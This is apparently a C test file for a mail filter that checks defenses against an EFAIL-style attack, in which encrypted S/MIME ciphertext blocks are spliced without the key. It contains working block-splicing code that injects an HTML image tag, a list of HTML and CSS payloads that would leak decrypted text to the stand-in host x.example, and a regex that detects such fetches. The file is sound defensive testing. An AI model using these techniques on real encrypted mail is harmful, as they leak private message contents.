/*
 * gadget and defuse against the attack itself: cipher text of a victim's mail is cut and put
 * together anew by somebody without a key, who knows how the mail begins. No text of the victim
 * ends in an attribute that a mail program would fetch.
 */
#include <string.h>

#include "milter/mime/defuse.h"
#include "milter/mime/gadget.h"
#include "milter/mime/leaf.h"
#include "pki/crypto/tlv.h"
#include "reading_fixture.h"

#define BLOCK 16
#define SECRET "the-merger-is-on-monday"
#define TRIES 60

static struct people *people;

/* --- the attacker's tools: no key --- */

struct cipher_text {
	GBytes *object;
	struct tlv version, recipients, content_type, cipher_oid;
	guint8 iv[BLOCK];
	const guint8 *blocks;
	gsize count;
};

static void
cipher_text_read(struct cipher_text *text, struct spool *message)
{
	struct tlv in, type, outer, data, content, algorithm, iv, bytes;

	text->object = g_byte_array_free_to_bytes(mail_object(people, message));
	in = tlv_of_bytes(text->object);
	g_assert_true(tlv_take(&in, TLV_SEQUENCE, &outer));
	g_assert_true(tlv_take(&outer, TLV_OID, &type));
	g_assert_true(tlv_take(&outer, TLV_CONTEXT_CONSTRUCTED(0), &in));
	g_assert_true(tlv_take(&in, TLV_SEQUENCE, &data));
	g_assert_true(tlv_take_whole(&data, TLV_INTEGER, &text->version));
	g_assert_true(tlv_take_whole(&data, TLV_SET, &text->recipients));
	g_assert_true(tlv_take(&data, TLV_SEQUENCE, &content));
	g_assert_true(tlv_take_whole(&content, TLV_OID, &text->content_type));
	g_assert_true(tlv_take(&content, TLV_SEQUENCE, &algorithm));
	g_assert_true(tlv_take_whole(&algorithm, TLV_OID, &text->cipher_oid));
	g_assert_true(tlv_take(&algorithm, TLV_OCTET_STRING, &iv));
	g_assert_true(tlv_take(&content, TLV_CONTEXT(0), &bytes));
	g_assert_cmpuint(iv.length, ==, BLOCK);
	memcpy(text->iv, iv.bytes, BLOCK);
	text->blocks = bytes.bytes;
	text->count = bytes.length / BLOCK;
}

static struct spool *
cipher_text_mail(const struct cipher_text *text, const guint8 *iv, const GByteArray *blocks)
{
	static const guint8 enveloped[] = { 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 7, 3 };
	g_autoptr(GByteArray) out = g_byte_array_new();
	g_autoptr(GBytes) object = NULL;
	guint all = tlv_open(out), explicit_0, data, content, algorithm;

	tlv_put(out, TLV_OID, enveloped, sizeof enveloped);
	explicit_0 = tlv_open(out);
	data = tlv_open(out);
	tlv_put_raw(out, text->version.bytes, text->version.length);
	tlv_put_raw(out, text->recipients.bytes, text->recipients.length);
	content = tlv_open(out);
	tlv_put_raw(out, text->content_type.bytes, text->content_type.length);
	algorithm = tlv_open(out);
	tlv_put_raw(out, text->cipher_oid.bytes, text->cipher_oid.length);
	tlv_put(out, TLV_OCTET_STRING, iv, BLOCK);
	tlv_close(out, algorithm, TLV_SEQUENCE);
	tlv_put(out, TLV_CONTEXT(0), blocks->data, blocks->len);
	tlv_close(out, content, TLV_SEQUENCE);
	tlv_close(out, data, TLV_SEQUENCE);
	tlv_close(out, explicit_0, TLV_CONTEXT_CONSTRUCTED(0));
	tlv_close(out, all, TLV_SEQUENCE);
	object = g_bytes_new(out->data, out->len);
	return mail_of_object(people, object, NULL);
}

/* A block of any text, after one of random octets: known is what the first block says. */
static void
put_chosen(GByteArray *blocks, const struct cipher_text *text, const char *known,
	   const char *wanted)
{
	guint8 before[BLOCK];

	g_assert_cmpuint(strlen(wanted), ==, BLOCK);
	for (gsize i = 0; i < BLOCK; i++)
		before[i] = (guint8)(text->iv[i] ^ (guint8)known[i] ^ (guint8)wanted[i]);
	g_byte_array_append(blocks, before, BLOCK);
	g_byte_array_append(blocks, text->blocks, BLOCK);
}

/* --- what a mail program would fetch --- */

static gboolean
fetches(const char *html)
{
	g_autoptr(GRegex) regex = g_regex_new(
	    "(?<![-\\w])(src|srcset|background|data|poster)\\s*=\\s*[\"']?\\s*(https?:)?//"
	    "|url\\s*\\(\\s*[\"']?\\s*(https?:)?//|@import",
	    G_REGEX_CASELESS | G_REGEX_DOTALL | G_REGEX_RAW, 0, NULL);

	g_assert_nonnull(regex);
	return g_regex_match(regex, html, 0, NULL);
}

/* Everything that the reader is shown, decoded. */
static char *
shown(const struct entity *entity)
{
	CLEANUP(mime_tree)
	struct mime_tree *tree =
	    scan_message(entity->headers, entity->spool, entity->body_start, entity->end, NULL);
	CLEANUP(spool) struct spool *out = spool_new(people->area);

	g_assert_true(leaf_write(tree, tree->root, spool_sink(out), NULL));
	g_assert_true(spool_seal(out, NULL));
	return spool_text(out);
}

/* TRUE: the message came through, harmless. */
static gboolean
deliver(struct spool *message)
{
	CLEANUP(reading) struct reading *reading = people_read(people, message);
	CLEANUP(entity) struct entity *safe = NULL;
	g_autofree char *html = NULL;
	g_autoptr(GError) error = NULL;
	gboolean changed;

	if (reading->opened == NULL) {
		g_assert_cmpint(reading->closed, ==, READING_FAILED);
		g_assert_null(strstr(reading->reason, SECRET));
		return FALSE;
	}
	g_assert_true(reading->unauthenticated);
	safe = defuse_html(reading->opened, people->area, &changed, &error);
	if (safe == NULL)
		return FALSE;
	html = shown(safe);
	g_assert_false(strstr(html, SECRET) != NULL && fetches(html));
	return TRUE;
}

/* --- the attack --- */

struct victim {
	const char *header; /* three blocks, with the empty line */
	const char *body;
};

static const struct victim victims[] = {
	{ "Content-Type: text/html\r\nX-Padding: abcdefg\r\n\r\n",
	  "<html><body><p>" SECRET " " SECRET " " SECRET "</p></body></html>\r\n" },
	{ "Content-Type: text/html; charset=utf-8\r\nX:a\r\n\r\n",
	  "<html><body><p>" SECRET " " SECRET " " SECRET "</p></body></html>\r\n" },
};

static const char *const encodings[] = { "7bit", "8bit", "quoted-printable" };

static struct spool *
victims_mail(const struct victim *victim, const char *encoding, const char *charset)
{
	g_autofree char *text = g_strdup_printf(
	    FROM_ALICE "Content-Type: text/html%s%s\r\nContent-Transfer-Encoding: %s\r\n\r\n%s",
	    charset != NULL ? "; charset=" : "", charset != NULL ? charset : "", encoding,
	    victim->body);
	CLEANUP(spool) struct spool *plain = mail_of(people, text);

	return mail_encrypted(people, &people->bob, plain, "aes-256-cbc");
}

/* <img ignore='RANDOM' src='http://x/RANDOM and the victim's text, after the victim's header. */
static struct spool *
attack(const struct cipher_text *text, const char *known, gsize header_blocks, guint try)
{
	g_autoptr(GByteArray) blocks = g_byte_array_new();
	g_autofree char *open = g_strdup_printf("<img ignore='%03u", try);
	g_autofree char *fetch = g_strdup_printf("a' src='//x.example/%03u", try);

	g_byte_array_append(blocks, text->blocks, (guint)(header_blocks * BLOCK));
	put_chosen(blocks, text, known, open);
	fetch[BLOCK] = '\0';
	put_chosen(blocks, text, known, fetch);
	g_byte_array_append(blocks, text->blocks + header_blocks * BLOCK,
			    (guint)((text->count - header_blocks) * BLOCK));
	return cipher_text_mail(text, text->iv, blocks);
}

static void
test_attack(gconstpointer data)
{
	const char *encoding = data;
	static const char *const charsets[] = { NULL, "utf-8", "iso-8859-1", "windows-1252",
						"shift_jis" };
	guint through = 0;

	for (gsize v = 0; v < G_N_ELEMENTS(victims); v++) {
		for (gsize c = 0; c < G_N_ELEMENTS(charsets); c++) {
			CLEANUP(spool)
			struct spool *message = victims_mail(&victims[v], encoding, charsets[c]);
			struct cipher_text text;

			cipher_text_read(&text, message);
			g_assert_true(deliver(message)); /* as it was sent it is fine */
			for (guint try = 0; try < TRIES; try++) {
				gsize header = 4 + try % (text.count - 5);
				CLEANUP(spool)
				struct spool *gadget =
				    attack(&text, "Content-Type: te", header, try);

				through += deliver(gadget);
			}
			g_bytes_unref(text.object);
		}
	}
	/* A charset of one octet each lets some random ones pass: then defuse is what is left. */
	g_test_message("%u came through", through);
	g_assert_cmpuint(through, <, 12);
}

/* The attacker is as lucky as can be: his random octets are text. */
static const char *const lucky[] = {
	"<img ignore='abcdefghijklmnop' src='//x.example/%s'>",
	"<img ignore='abcdefghijklmnop'\tsrc =\r\n'http://x.example/%s'>",
	"<IMG IGNORE='abcdefghijklmnop' SRC=http://x.example/%s>",
	"<img/src=\"http://x.example/%s\">",
	"<img alt=\">\" src=\"http://x.example/%s\">",
	"<!-- \"> <img src='//x.example/%s'> -->",
	"<!--[if mso]><v:fill src='//x.example/%s'/><![endif]-->",
	"<table background='http://x.example/%s'>",
	"<object data='http://x.example/%s'></object>",
	"<video poster='http://x.example/%s'>",
	"<img srcset='http://x.example/%s 2x'>",
	"<p style='background: url(http://x.example/%s)'>",
	"<p style=\"background: url( 'http://x.example/%s')\">",
	"<style>@import 'http://x.example/%s';</style>",
	"<style>p { background: URL(//x.example/%s) }</style>",
};

static void
test_lucky(void)
{
	for (gsize i = 0; i < G_N_ELEMENTS(lucky); i++) {
		g_auto(GStrv) pieces = g_strsplit(lucky[i], "%s", 2);
		g_autofree char *body = g_strconcat("<html>", pieces[0], SECRET, pieces[1], NULL);
		const struct victim victim = { NULL, body };

		g_assert_true(fetches(body));
		for (gsize e = 0; e < G_N_ELEMENTS(encodings) - 1; e++) {
			CLEANUP(spool)
			struct spool *message = victims_mail(&victim, encodings[e], "utf-8");

			g_test_message("%s", lucky[i]);
			g_assert_true(deliver(message));
		}
	}
}

/* --- the rules, one by one --- */

struct rule_row {
	const char *name;
	const char *entity;
	gboolean clean;
};

#define MIXED "Content-Type: multipart/mixed; boundary=b\r\n\r\n"

static const struct rule_row rules[] = {
	{ "7bit", "Content-Type: text/plain\r\n\r\na\tb\r\n", TRUE },
	{ "nothing", "", TRUE },
	{ "8 bits that are not said", "Content-Type: text/plain\r\n\r\n\303\274\r\n", FALSE },
	{ "a control character", "Content-Type: text/plain\r\n\r\na\001b\r\n", FALSE },
	{ "DEL", "Content-Type: text/plain\r\n\r\na\177b\r\n", FALSE },
	{ "form feed", "Content-Type: text/plain\r\n\r\na\fb\r\n", FALSE },
	{ "8 bits in a field", "Subject: \303\274\r\n\r\nx\r\n", FALSE },
	{ "a control character in a field", "Subject: a\001\r\n\r\nx\r\n", FALSE },
	{ "8bit UTF-8",
	  "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	  "\303\274\342\202\254\r\n",
	  TRUE },
	{ "8bit, no charset, UTF-8",
	  "Content-Type: text/html\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\303\274\r\n", TRUE },
	{ "8bit, no charset, Latin 1",
	  "Content-Type: text/html\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\374\r\n", FALSE },
	{ "8bit Latin 1",
	  "Content-Type: text/html; charset=iso-8859-1\r\nContent-Transfer-Encoding: "
	  "8bit\r\n\r\n\374\r\n",
	  TRUE },
	{ "8bit, a charset that nobody knows",
	  "Content-Type: text/html; charset=x-none\r\nContent-Transfer-Encoding: "
	  "8bit\r\n\r\n\374\r\n",
	  FALSE },
	{ "8bit, cut inside of a character",
	  "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\na\303",
	  FALSE },
	{ "8bit with a control character",
	  "Content-Type: text/html\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\303\274\002\r\n",
	  FALSE },
	{ "7bit ISO-2022-JP",
	  "Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n\033$B$\"\033(B\r\n", TRUE },
	{ "escapes without that charset",
	  "Content-Type: text/plain; charset=us-ascii\r\n\r\n\033$B$\"\033(B\r\n", FALSE },
	{ "quoted-printable",
	  "Content-Type: text/html\r\nContent-Transfer-Encoding: "
	  "quoted-printable\r\n\r\n=C3=BC\r\n",
	  TRUE },
	{ "quoted-printable with 8 bits",
	  "Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\303\r\n",
	  FALSE },
	{ "base64",
	  "Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nAAAA\r\n+/==\r\n",
	  TRUE },
	{ "base64 with junk",
	  "Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nAAAA<AAA\r\n",
	  FALSE },
	{ "binary text",
	  "Content-Type: text/plain\r\nContent-Transfer-Encoding: binary\r\n\r\nabc\r\n", FALSE },
	{ "binary HTML of another type",
	  "Content-Type: application/xhtml+xml\r\nContent-Transfer-Encoding: binary\r\n\r\nabc\r\n",
	  FALSE },
	{ "binary CMS",
	  "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: binary\r\n\r\nabc",
	  FALSE },
	{ "binary data",
	  "Content-Type: image/png\r\nContent-Transfer-Encoding: binary\r\n\r\n\001\377\r\n",
	  TRUE },
	{ "another transfer encoding",
	  "Content-Type: text/plain\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\nabc\r\n",
	  FALSE },
	{ "parts", MIXED "--b\r\n\r\none\r\n--b\r\nContent-Type: text/html\r\n\r\ntwo\r\n--b--\r\n",
	  TRUE },
	{ "preamble", MIXED "\303\274\r\n--b\r\n\r\none\r\n--b--\r\n", FALSE },
	{ "epilogue", MIXED "--b\r\n\r\none\r\n--b--\r\n\001\r\n", FALSE },
	{ "field of a part", MIXED "--b\r\nX: \377\r\n\r\none\r\n--b--\r\n", FALSE },
	{ "second part", MIXED "--b\r\n\r\none\r\n--b\r\n\r\n\377\r\n--b--\r\n", FALSE },
	{ "attached message",
	  MIXED "--b\r\nContent-Type: message/rfc822\r\n\r\nSubject: x\r\n\r\n\377\r\n--b--\r\n",
	  FALSE },
	{ "no end", MIXED "--b\r\n\r\none\r\n", TRUE },
	{ "no boundary", "Content-Type: multipart/mixed\r\n\r\n--b\r\n\r\none\r\n", FALSE },
};

static struct entity *
entity_of(const char *text)
{
	CLEANUP(spool)
	struct spool *spool = spool_from_bytes(people->area, text, strlen(text), NULL);
	CLEANUP(headers) struct headers *headers = NULL;
	guint64 body = 0;

	headers = headers_parse(spool, 0, spool_size(spool), &body, NULL);
	g_assert_nonnull(headers);
	return entity_new(headers, spool, 0, body, spool_size(spool));
}

static void
test_rule(gconstpointer data)
{
	const struct rule_row *row = data;
	CLEANUP(entity) struct entity *entity = entity_of(row->entity);
	GError *error = NULL;
	const char *wrong = gadget_find(entity, &error);

	g_assert_no_error(error);
	g_test_message("%s", wrong);
	g_assert_cmpint(wrong == NULL, ==, row->clean);
}

int
main(int argc, char **argv)
{
	int status;

	g_test_init(&argc, &argv, NULL);
	people = people_new();
	for (gsize i = 0; i < G_N_ELEMENTS(encodings); i++) {
		g_autofree char *name = g_strconcat("/gadget/attack/", encodings[i], NULL);

		g_test_add_data_func(name, encodings[i], test_attack);
	}
	g_test_add_func("/gadget/attack/all luck of the world", test_lucky);
	for (gsize i = 0; i < G_N_ELEMENTS(rules); i++) {
		g_autofree char *name = g_strconcat("/gadget/rule/", rules[i].name, NULL);

		g_test_add_data_func(name, &rules[i], test_rule);
	}
	status = g_test_run();
	people_free(people);
	return status;
}
